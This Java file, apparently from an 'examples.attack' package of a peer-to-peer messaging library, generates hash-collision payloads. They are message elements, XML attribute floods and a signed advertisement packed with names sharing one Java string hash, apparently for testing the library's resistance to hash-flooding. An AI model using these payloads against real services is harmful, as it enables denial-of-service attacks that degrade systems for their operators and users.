package io.parley.examples.attack;

import io.parley.advertisement.AdvertisementCodec;
import io.parley.advertisement.AdvertisementLimits;
import io.parley.advertisement.PipeAdvertisement;
import io.parley.advertisement.PipeType;
import io.parley.id.GroupId;
import io.parley.id.PipeId;
import io.parley.identity.Identity;
import io.parley.message.Message;
import io.parley.message.MessageElement;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.stream.IntStream;

/** Messages and documents with names that have one hash, in Java and in the parser of XML. */
final class CollidingNames {

    private static final int NAME_PAIRS = 16;
    private static final int ATTRIBUTES_OF_AN_ELEMENT = 60;
    private static final int ENVELOPE_BYTES = 81;

    private CollidingNames() {}

    private static List<String> names(int count) {
        return IntStream.range(0, count)
                .mapToObj(i -> {
                    StringBuilder name = new StringBuilder();
                    for (int bit = 0; bit < NAME_PAIRS; bit++) {
                        name.append((i >> bit & 1) == 0 ? "Aa" : "BB");
                    }
                    return name.toString();
                })
                .toList();
    }

    /** Returns a message whose elements have the names. */
    static Message message(int count) {
        return Message.of(names(count).stream()
                .map(name -> MessageElement.of(name, new byte[0]))
                .toList());
    }

    /** Returns a message in XML with elements that have the names as attributes. */
    static byte[] attributes(int count) {
        StringBuilder document = new StringBuilder("<Message version='0'>");
        List<String> names = names(count);
        for (int i = 0; i < count; i++) {
            document.append(i % ATTRIBUTES_OF_AN_ELEMENT == 0 ? "<Element name='a' mime_type='text/plain'" : "")
                    .append(' ')
                    .append(names.get(i))
                    .append("=''")
                    .append((i + 1) % ATTRIBUTES_OF_AN_ELEMENT == 0 || i + 1 == count ? "/>" : "");
        }
        return document.append("</Message>").toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Returns a signed advertisement with elements that have the names: see {@code docs/wire-format.md}. */
    static byte[] advertisement(Identity publisher, String pipe, int count) {
        String valid = new String(
                AdvertisementCodec.installed(AdvertisementLimits.DEFAULTS)
                        .encode(PipeAdvertisement.of(PipeId.ofName(GroupId.NET, pipe), PipeType.UNICAST, pipe)),
                StandardCharsets.UTF_8);
        int end = valid.lastIndexOf("</");
        byte[] document = (valid.substring(0, end) + "<" + String.join("/><", names(count)) + "/>"
                        + valid.substring(end))
                .getBytes(StandardCharsets.UTF_8);
        byte[] unsigned = ByteBuffer.allocate(ENVELOPE_BYTES + document.length)
                .put("PADV".getBytes(StandardCharsets.US_ASCII))
                .put((byte) 1)
                .put(publisher.peerId().toByteArray())
                .put(GroupId.NET.toByteArray())
                .putLong(System.currentTimeMillis())
                .putLong(Duration.ofHours(1).toMillis())
                .putLong(Duration.ofHours(1).toMillis())
                .putInt(document.length)
                .put(document)
                .array();
        byte[] signature = publisher.sign(join("parley-advertisement\0".getBytes(StandardCharsets.US_ASCII), unsigned));
        return join(unsigned, signature);
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] joined = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }
}
